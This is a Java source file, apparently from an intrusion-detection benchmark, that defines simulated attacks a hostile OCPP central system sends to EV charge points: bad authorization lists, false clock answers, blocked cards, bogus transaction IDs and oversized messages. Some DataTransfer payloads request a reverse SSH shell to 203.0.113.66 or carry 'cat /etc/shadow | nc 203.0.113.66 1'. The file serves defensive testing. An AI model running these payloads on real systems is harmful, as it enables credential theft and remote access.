// SPDX-License-Identifier: Apache-2.0
package io.ferrule.benchmarks.ids.attack;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.ferrule.benchmarks.ids.simulation.Json;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;

/** A50 to A54: what a hostile CSMS sends and answers. */
final class CsmsAttacks {

    private CsmsAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>(transfers());
        all.addAll(lies());
        all.addAll(giants());
        return all;
    }

    private static List<Attack> transfers() {
        return List.of(
                new Attack("A50", "the list is emptied", s -> s.command("SendLocalList", list(0, "Full"))),
                new Attack("A50", "a list beyond every bound", s -> s.command("SendLocalList", list(5_000, "Full"))),
                new Attack("A50", "a list that forgets nearly everybody", s -> {
                    s.simulation().honest(() -> s.command("SendLocalList", list(80, "Full")));
                    s.later(
                            3_600,
                            () -> s.command("SendLocalList", list(1, "Full").put("listVersion", 3)));
                }),
                new Attack(
                        "A51",
                        "a shell for the asking",
                        s -> s.command(
                                "DataTransfer",
                                Json.object("vendorId", "revssh", "messageId", "open", "data", "203.0.113.66:22"))),
                new Attack(
                        "A51",
                        "three kilobytes into a buffer of one",
                        s -> s.command(
                                "DataTransfer",
                                Json.object(
                                        "vendorId",
                                        s.victim().habits().maker(),
                                        "messageId",
                                        "getpreq",
                                        "data",
                                        Base64.getEncoder().encodeToString(new byte[3_000])))),
                new Attack(
                        "A51",
                        "a vendor that nobody has",
                        s -> s.every(
                                60,
                                3,
                                i -> s.command(
                                        "DataTransfer",
                                        Json.object(
                                                "vendorId",
                                                "com.evil.agent",
                                                "messageId",
                                                "beacon",
                                                "data",
                                                "id=" + i)))),
                new Attack(
                        "A51",
                        "a message that this maker does not have",
                        s -> s.command(
                                "DataTransfer",
                                Json.object(
                                        "vendorId",
                                        s.victim().habits().maker(),
                                        "messageId",
                                        "exec",
                                        "data",
                                        "cat /etc/shadow | nc 203.0.113.66 1"))));
    }

    /** The CSMS answers so from now on, and the victim asks. */
    private static Attack lie(
            String type, String name, String action, UnaryOperator<ObjectNode> change, ObjectNode question) {
        return new Attack(type, name, s -> {
            s.estate().central().knows("0401");
            lie(s, action, change);
            s.every(30, 6, i -> s.blurts(action, question));
            s.later(300, () -> lie(s, action, UnaryOperator.identity()));
        });
    }

    private static List<Attack> lies() {
        ObjectNode boot = Json.object("chargePointVendor", "Alder", "chargePointModel", "A2-22");
        ObjectNode start =
                Json.object("connectorId", 1, "idTag", "0401", "meterStart", 1, "timestamp", "2026-01-07T14:00:00Z");
        return List.of(
                lie("A52", "it is 1970", "BootNotification", a -> a.put("currentTime", "1970-01-01T00:00:00Z"), boot),
                lie(
                        "A52",
                        "it is tomorrow",
                        "Heartbeat",
                        a -> a.put("currentTime", "2026-01-09T12:00:00Z"),
                        Json.object()),
                lie("A52", "it is an hour later", "Heartbeat", CsmsAttacks::hourLater, Json.object()),
                lie("A52", "a heartbeat every instant", "BootNotification", a -> a.put("interval", 1), boot),
                lie(
                        "A52",
                        "a heartbeat in 68 years",
                        "BootNotification",
                        a -> a.put("interval", Integer.MAX_VALUE),
                        boot),
                lie("A53", "never accepted", "BootNotification", a -> a.put("status", "Rejected"), boot),
                new Attack("A53", "pending for ever", s -> {
                    lie(s, "BootNotification", a -> a.put("status", "Pending"));
                    s.every(60, 40, i -> s.blurts("BootNotification", boot));
                    s.later(2_400, () -> lie(s, "BootNotification", UnaryOperator.identity()));
                }),
                new Attack("A53", "every card is blocked", s -> {
                    s.fleet().forEach(station -> s.estate()
                            .central()
                            .lies(station.channel().station(), "Authorize", a ->
                                    (ObjectNode) a.set("idTagInfo", Json.object("status", "Blocked"))));
                    s.every(
                            20,
                            40,
                            i -> s.says(
                                    s.fleet().get(i % s.fleet().size()).channel(),
                                    "Authorize",
                                    Json.object("idTag", s.drivers().card())));
                }),
                lie("A53", "a negative number", "StartTransaction", a -> a.put("transactionId", -7), start),
                lie(
                        "A53",
                        "a number beyond every bound",
                        "StartTransaction",
                        a -> a.put("transactionId", 4_294_967_296L),
                        start),
                new Attack(
                        "A53",
                        "the number of a charge that runs",
                        s -> s.whileCharging(s.other(), 40_000, () -> {
                            int taken = s.other().transaction(1);
                            s.estate().central().knows("0401");
                            lie(s, "StartTransaction", a -> a.put("transactionId", taken));
                            s.says(
                                    "StartTransaction",
                                    start.deepCopy()
                                            .put(
                                                    "meterStart",
                                                    Math.round(s.victim().register(1)))
                                            .put("timestamp", s.time()));
                            s.later(60, () -> lie(s, "StartTransaction", UnaryOperator.identity()));
                        })));
    }

    private static void lie(Stage stage, String action, UnaryOperator<ObjectNode> change) {
        stage.estate().central().lies(stage.victim().channel().station(), action, change);
    }

    private static ObjectNode hourLater(ObjectNode answer) {
        java.time.Instant told =
                java.time.Instant.parse(answer.path("currentTime").asText());
        return answer.put("currentTime", told.plus(Duration.ofMinutes(70)).toString());
    }

    private static List<Attack> giants() {
        double[] many = new double[2_500];
        java.util.Arrays.fill(many, 12);
        ArrayNode keys = Json.array();
        for (int i = 0; i < 1_000; i++) {
            keys.add("Key" + i);
        }
        return List.of(
                new Attack(
                        "A54",
                        "a hundred kilobytes of profile",
                        s -> s.command(
                                "SetChargingProfile", OperatorAttacks.profile(1, "TxDefaultProfile", "A", many))),
                new Attack(
                        "A54",
                        "a thousand keys are asked for",
                        s -> s.command("GetConfiguration", Json.object("key", keys), Json.object())),
                new Attack(
                        "A54",
                        "a list for a larger station",
                        s -> s.command("SendLocalList", list(400, "Differential"))),
                new Attack(
                        "A54",
                        "a message for a larger controller",
                        s -> s.command(
                                "DataTransfer",
                                Json.object("vendorId", s.victim().habits().maker(), "data", "text ".repeat(8_000)))));
    }

    static ObjectNode list(int entries, String type) {
        ArrayNode list = Json.array();
        for (int i = 0; i < entries; i++) {
            list.add(Json.object(
                    "idTag", String.format(Locale.ROOT, "04%08X", i), "idTagInfo", Json.object("status", "Accepted")));
        }
        ObjectNode request = Json.object("listVersion", 2, "updateType", type);
        if (entries > 0) {
            request.set("localAuthorizationList", list);
        }
        return request;
    }
}
